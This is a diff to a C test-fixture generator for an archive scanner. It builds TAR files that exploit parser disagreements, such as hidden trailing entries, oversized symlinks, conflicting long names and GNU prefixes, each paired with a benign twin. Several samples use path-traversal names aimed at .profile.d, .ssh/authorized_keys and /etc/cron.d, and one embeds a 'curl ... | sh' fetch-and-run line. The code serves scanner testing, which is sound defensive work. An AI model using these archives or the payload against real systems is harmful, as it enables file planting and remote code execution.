@@ -4,6 +4,7 @@
  * every real extractor reads it).  Each trick takes one header; crible
  * must judge every reading, and the twin must stay as quiet as it is.
  */
+#include <stdio.h>
 #include <string.h>
 #include <zlib.h>
 
@@ -224,3 +225,141 @@ void r_zip_trailing_bat(struct sbuf *b)
 
 /* Plain prose: the twin of the extension rules ("setup.bat.txt" is a text file to Windows). */
 void r_note(struct sbuf *b) { sb_str(b, note); }
+
+/* --- TAR readings -------------------------------------------------------- */
+
+static const char sh[] = "#!/bin/sh\ncurl -s http://example.invalid/x | sh\n";
+
+/*
+ * One tar header: name, type, link, the POSIX prefix, the magic (6+2
+ * bytes: "ustar\0" "00" or GNU "ustar  \0"), and the size field, which
+ * may differ from the bytes that follow (len).
+ */
+static void th(struct sbuf *b, const char *name, char type, const char *link, const char *prefix, const char *magic,
+	       unsigned size, const void *data, size_t len)
+{
+	uint8_t h[512];
+	memset(h, 0, sizeof h);
+	memcpy(h, name, strlen(name) < 100 ? strlen(name) : 100);
+	memcpy(h + 100, "0000644", 7);
+	memcpy(h + 108, "0001750", 7);
+	memcpy(h + 116, "0001750", 7);
+	char sz[12];
+	snprintf(sz, sizeof sz, "%011o", size);
+	memcpy(h + 124, sz, 11);
+	memcpy(h + 136, "14500000000", 11);
+	h[156] = (uint8_t)type;
+	if (link)
+		memcpy(h + 157, link, strlen(link));
+	memcpy(h + 257, magic, 8);
+	if (prefix)
+		memcpy(h + 345, prefix, strlen(prefix));
+	memset(h + 148, ' ', 8);
+	unsigned sum = 0;
+	for (int i = 0; i < 512; i++)
+		sum += h[i];
+	snprintf((char *)h + 148, 8, "%06o", sum);
+	h[155] = ' ';
+	sb_put(b, h, 512);
+	if (len) {
+		sb_put(b, data, len);
+		sb_zero(b, (512 - len % 512) % 512);
+	}
+}
+
+#define POSIX "ustar\00000"
+#define GNU "ustar  \0"
+
+/* A script behind the end marker: GNU tar --ignore-zeros extracts it. */
+void r_tar_after_end(struct sbuf *b)
+{
+	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+	th(b, "../../.profile.d/evil.sh", '0', NULL, NULL, POSIX, sizeof sh - 1, T(sh));
+	sb_zero(b, 1024);
+}
+
+/* The twin: the same note padded with zero blocks to 10 KiB, as tar writes it. */
+void r_tar_padded(struct sbuf *b)
+{
+	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	sb_zero(b, 10240 - b->len);
+}
+
+/* A damaged block, then a program: GNU tar skips to the next header and extracts it. */
+void r_tar_resync(struct sbuf *b)
+{
+	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	size_t at = b->len;
+	th(b, "junk.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	b->p[at + 148] ^= 1;
+	struct sbuf pe = {0};
+	sample_pe(&pe);
+	th(b, "setup.exe", '0', NULL, NULL, POSIX, (unsigned)pe.len, pe.p, pe.len);
+	sb_free(&pe);
+	sb_zero(b, 1024);
+}
+
+/* The twin: the same damage in front of a note (damaged, nothing to block). */
+void r_tar_resync_twin(struct sbuf *b)
+{
+	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	size_t at = b->len;
+	th(b, "junk.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	b->p[at + 148] ^= 1;
+	th(b, "notes.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+}
+
+/* A symlink whose size field covers a whole entry: readers that give links no data read that entry. */
+void r_tar_link_size(struct sbuf *b)
+{
+	struct sbuf inner = {0};
+	th(&inner, "../../escape.sh", '0', NULL, NULL, POSIX, sizeof sh - 1, T(sh));
+	th(b, "link", '2', "readme.txt", NULL, POSIX, (unsigned)inner.len, inner.p, inner.len);
+	sb_free(&inner);
+	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+}
+
+/* The twin: the same link with no size. */
+void r_tar_link_twin(struct sbuf *b)
+{
+	th(b, "link", '2', "readme.txt", NULL, POSIX, 0, NULL, 0);
+	th(b, "readme.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+}
+
+/* A GNU long name and a pax path for one entry: Python takes the first header read, the others pax. */
+void r_tar_pax_gnu(struct sbuf *b)
+{
+	static const char lname[] = "../../.ssh/authorized_keys";
+	th(b, "././@LongLink", 'L', NULL, NULL, GNU, sizeof lname, lname, sizeof lname);
+	th(b, "PaxHeaders/x", 'x', NULL, NULL, POSIX, 18, "18 path=notes.txt\n", 18);
+	th(b, "notes.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+}
+
+/* The twin: both say a harmless name. */
+void r_tar_pax_gnu_twin(struct sbuf *b)
+{
+	static const char lname[] = "docs/notes-long-name.txt";
+	th(b, "././@LongLink", 'L', NULL, NULL, GNU, sizeof lname, lname, sizeof lname);
+	th(b, "PaxHeaders/x", 'x', NULL, NULL, POSIX, 18, "18 path=notes.txt\n", 18);
+	th(b, "notes.txt", '0', NULL, NULL, POSIX, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+}
+
+/* A prefix under the GNU magic: GNU readers ignore it, others join it: "../../etc" + "/" + name. */
+void r_tar_gnu_prefix(struct sbuf *b)
+{
+	th(b, "cron.d/job", '0', NULL, "../../etc", GNU, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+}
+
+/* The twin: a harmless prefix under the GNU magic. */
+void r_tar_gnu_prefix_twin(struct sbuf *b)
+{
+	th(b, "cron.d/job.txt", '0', NULL, "docs", GNU, sizeof note - 1, T(note));
+	sb_zero(b, 1024);
+}
